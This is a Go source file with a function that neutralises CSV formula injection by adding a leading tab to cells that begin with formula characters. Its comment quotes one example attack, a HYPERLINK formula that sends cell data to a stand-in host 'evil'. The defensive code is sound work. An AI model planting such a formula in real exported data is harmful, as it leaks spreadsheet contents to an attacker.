package main

// csvSafe defuses formula injection in CSV cells (OWASP "CSV Injection"):
// a spreadsheet runs a cell that begins with '=', '+', '-' or '@' (and, in
// some, a tab or CR) as a formula, so a stranger's User-Agent of
// `=HYPERLINK("http://evil/?"&A1)` would leak the sheet or run a command.
// Such a cell gets a leading tab, which makes it text in Excel, LibreOffice
// and Google Sheets, and encoding/csv then quotes it (a cell beginning with
// white space is always quoted). Tools that parse the CSV see the tab and
// can strip it. fields is changed in place and returned.
func csvSafe(fields []string) []string {
	for i, f := range fields {
		if f != "" {
			switch f[0] {
			case '=', '+', '-', '@', '\t', '\r':
				fields[i] = "\t" + f
			}
		}
	}
	return fields
}
